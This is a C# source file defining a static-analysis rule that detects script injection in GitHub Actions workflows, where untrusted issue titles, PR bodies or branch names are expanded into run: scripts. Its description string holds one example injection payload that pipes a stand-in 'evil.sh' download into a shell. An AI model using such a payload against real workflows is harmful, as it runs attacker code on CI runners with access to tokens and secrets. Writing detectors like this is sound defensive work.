using Drydock.Analysis;
using Drydock.Findings;
using Drydock.Workflows.Knowledge;
using Drydock.Workflows.Model;
using Drydock.Workflows.Parsing;

namespace Drydock.Workflows.Rules;

/// <summary>GA025: untrusted event data (titles, bodies, branch names) expanded straight into a run: script.</summary>
public sealed class ScriptInjectionRule : IWorkflowRule
{
    public static readonly RuleDescriptor Descriptor = new(
        "GA025",
        "script-injection",
        Severity.Error,
        "A run: script (or actions/github-script code) expands ${{ github.event... }} data that anyone can write: an issue title, a PR body, a branch name.",
        "The expression is pasted into the script before the shell runs it: a title like '\"; curl evil.sh | sh #' runs code on the runner with the job's token and secrets.",
        "Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script.")
    {
        Equivalents = ["actionlint expression (untrusted input)"],
    };

    public RuleDescriptor Rule => Descriptor;

    public void Check(WorkflowSet workflows, Project project, FindingSink sink)
    {
        foreach (var site in workflows.Files.SelectMany(file => file.Expressions))
        {
            bool isScript = site.Field == "run"
                || (site.Field == "with.script" && (site.Step?.UsesAction("actions/github-script") ?? false));
            if (!isScript || site.Tree is null)
            {
                continue;
            }

            foreach (var (node, path) in ExprNodes.AccessChains(site.Tree))
            {
                if (Untrusted(path) is { } pattern)
                {
                    string variable = path[^1].ToUpperInvariant().Replace('-', '_');
                    sink.Report(Descriptor, site.File, site.SpanOf(node.Start, node.End),
                        $"'{string.Join('.', path)}' ({pattern}) is written by whoever opens the issue or pull request, and is pasted into the script unescaped",
                        fixAdvice: $"Add 'env: {variable}: ${{{{ {string.Join('.', path)} }}}}' to the step and use \"${variable}\" in the script.");
                }
            }
        }
    }

    private static string? Untrusted(IReadOnlyList<string> path) =>
        WorkflowKnowledge.UntrustedInputs.FirstOrDefault(pattern =>
        {
            var parts = pattern.Split('.');
            if (path.Count < parts.Length)
            {
                return false;
            }

            for (int i = 0; i < parts.Length; i++)
            {
                if (parts[i] != "*" && path[i] != "*" && !string.Equals(parts[i], path[i], StringComparison.Ordinal))
                {
                    return false;
                }
            }

            return true;
        });
}
